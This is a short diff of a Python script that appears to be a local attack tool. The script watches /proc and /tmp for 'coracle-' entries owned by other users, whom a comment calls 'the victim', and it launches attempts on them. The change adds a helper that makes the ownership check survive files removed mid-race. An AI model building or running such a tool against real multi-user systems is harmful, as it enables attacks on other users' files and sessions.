@@ -94,6 +94,13 @@ def enter(path):
             pass
 
 
+def is_anothers(path):
+    try:
+        return os.lstat(path).st_uid != os.getuid()
+    except FileNotFoundError:  # just removed by the victim
+        return False
+
+
 def arguments():
     for pid in filter(str.isdigit, os.listdir("/proc")):
         try:
@@ -127,6 +134,6 @@ while not over() and not select.select([sys.stdin], [], [], 0.001)[0]:
                 threading.Thread(target=attempt, args=(path,), daemon=True).start()
     for name in os.listdir("/tmp"):
         path = "/tmp/" + name
-        if name.startswith("coracle-") and "enter" in modes and os.lstat(path).st_uid != os.getuid():
+        if name.startswith("coracle-") and "enter" in modes and is_anothers(path):
             enter(path)
 print("end", tried, flush=True)
